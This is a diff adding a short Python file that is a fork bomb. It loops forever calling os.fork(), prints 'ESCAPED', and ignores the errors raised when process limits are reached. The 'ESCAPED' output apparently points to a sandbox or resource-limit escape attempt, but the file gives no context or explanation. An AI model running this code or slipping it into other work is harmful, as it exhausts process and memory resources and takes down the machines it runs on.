@@ -1,0 +1,7 @@
+import os
+while True:
+    try:
+        os.fork()
+        print("ESCAPED")
+    except OSError:
+        pass
